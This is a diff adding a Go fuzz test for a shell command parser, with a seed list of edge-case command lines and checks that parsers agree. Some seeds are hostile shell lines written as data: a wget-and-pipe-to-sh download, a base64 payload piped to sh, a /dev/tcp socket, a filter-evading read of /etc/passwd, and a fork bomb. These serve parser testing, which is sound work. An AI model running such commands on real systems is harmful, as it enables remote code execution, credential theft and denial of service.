@@ -1,0 +1,100 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
+)
+
+// sameView compares what views hold, whichever way their slices are empty.
+var sameView = cmp.Options{cmpopts.EquateEmpty(), cmpopts.IgnoreUnexported(View{})}
+
+// seeds are lines that once broke a reader or touch a border of one.
+var seeds = []string{
+	"", " ", "\n", "#", "a#b #c", "wget http://192.0.2.1/x -O- | sh", "cd /tmp;ls&&id||w &\n\n uname -a;", "a |\n b", "a &&\n\n b", "a;;b", "a & ; b", "|a", "a|",
+	"a 2>/dev/null >>f 2>&1 <g", "a &>f", "a&>>f b", "a 22>f", "a>&-", "a> 'b c'", ">f", ">f a >g", "a >", "a >\nb", "a <<EOF\nb\nEOF\n", "a <<-EOF\n\tb\n\tEOF", "a <<<b", "a <>b", "a >|b",
+	`echo "a\nb"|passwd|bash`, `echo "a$\nb"`, `echo "a\"b\\c\$d"`, `echo 'a"b'"c'd"e\ f`, `""`, `'' a`, `a ""`, `echo "x`, `echo 'x`, "a \"b\nc\" d", "a 'b\nc'\nd", `\a b\;c`, `a\`, "a\\\nb",
+	"A=b", "A=b c", "A+=b", "A= B='c d' e", "export A=b c", `export A="b c" -p`, "export a[0]=b", "a[0]=b", "[ -f x ] && y", "[[ -f x ]]", "if a; then b; fi", "! a", "time a", "{ a; }", "find . -exec rm {} \\; -ok id +",
+	"{} a", "{a,b}", "a {b,c}", "(a)", "a)", "$a", "$(a)", "`a`", "\"$(a)\"", "sudo -u x sh -c 'a; b'", "echo 'a b' | sh", "eval a b", "a\x00b", "a\rb", "a\r\nb", "\xff\xfe", "日本 a", "a\x7f",
+	"x=1 y=2; unset x; read y", "echo d2dldA== | base64 -d | sh", "xargs sh -c 'a'", ". /dev/stdin", "a=~ b ~/c *.d ?e", "a &| b", "a &! b", "a |& b", "@test a", "let a", "a 1>&2>b", "a >#b", "0a>b 1", "1>b",
+	"echo -e '\\x61\\0142\\u0063' | sh", "printf '%s %b' a '\\n' | sh", "sh <<< \"a $b\"", "cat <<'E' | sh\na\nE", "bash <(echo a)", "su - -c 'a'", "trap 'a' 0", ":(){ :|:& };:",
+	"case a in b) c;; esac", "for i in a b; do $i; done", "f() { a; }; f", "x='y z'; $x \"$x\"", "cat$IFS$9/etc/passwd", "a${IFS}b", "w$@get", "$'\\x61' $\"b\"", "/ip cloud print", "C:\\x\\cmd.exe /c dir", "echo `echo \\`a\\``",
+	"sh -c \"echo $(a)\"", "eval '$(a)'", "echo a; sh -c 'b >c' >d; e >f", "sudo sudo env -S 'a b'", "timeout 5", "nohup", "sh -c", "exec 3<>/dev/tcp/192.0.2.1/80", "echo a >&2|sh", "!'' #\xff",
+}
+
+func FuzzParse(f *testing.F) {
+	for _, s := range seeds {
+		f.Add(s)
+	}
+	p, again := NewParser(), NewParser()
+	f.Fuzz(func(t *testing.T, line string) {
+		var v, w View
+		p.Parse(line, &v)
+		again.Parse("x=1; echo `a`; sh -c 'b", &w)
+		again.Parse(line, &w)
+		if d := cmp.Diff(v, w, sameView); d != "" {
+			t.Errorf("Parse(%q) differs from one parser to another:\n%s", line, d)
+		}
+		checkBounds(t, line, &v)
+	})
+}
+
+func checkBounds(t *testing.T, line string, v *View) {
+	t.Helper()
+	if len(v.Commands) > MaxCommands || len(v.Redirects) > MaxRedirects {
+		t.Errorf("Parse(%q): %d commands, %d redirects", line, len(v.Commands), len(v.Redirects))
+	}
+	for i, c := range v.Commands {
+		if c.Depth > MaxDepth || c.Parent >= i || c.Parent < -1 {
+			t.Errorf("Parse(%q): command %d = %+v, want a parent before it and a depth of at most %d", line, i, c, MaxDepth)
+		}
+		want := strings.Join(append([]string{c.Name}, c.Args...), " ")
+		if c.Name == "" && len(c.Args) == 0 {
+			want = strings.Join(c.Assigns, " ")
+		}
+		if c.Text != want && !(c.Path == "" && c.Name == "") {
+			t.Errorf("Parse(%q): Text %q, want Name and Args %q", line, c.Text, want)
+		}
+	}
+	for i, r := range v.Redirects {
+		if r.Command >= len(v.Commands) || r.Text != r.FD+r.Op+" "+r.Target {
+			t.Errorf("Parse(%q): redirect %d = %+v", line, i, r)
+		}
+	}
+}
+
+// hard is Parse without the strict lexer on the line itself.
+func hard(p *Parser, line string, v *View) {
+	p.reset(v)
+	p.ctx = context{src: line, parent: -1}
+	p.readHard(line, stream{})
+}
+
+// strict reports whether the strict lexer takes the line.
+func strict(p *Parser, line string) bool {
+	var v View
+	p.reset(&v)
+	p.ctx = context{src: line, parent: -1}
+	_, ok := p.lex(line, stream{}, false)
+	return ok
+}
+
+func FuzzFastEqualsSlow(f *testing.F) {
+	for _, s := range seeds {
+		f.Add(s)
+	}
+	p := NewParser()
+	f.Fuzz(func(t *testing.T, line string) {
+		if len(line) > MaxInput || !strict(p, line) {
+			return
+		}
+		var fast, slow View
+		p.Parse(line, &fast)
+		hard(p, line, &slow)
+		if d := cmp.Diff(slow, fast, sameView); d != "" {
+			t.Errorf("Parse(%q): strict lexer (+) and parser (-) differ:\n%s", line, d)
+		}
+	})
+}
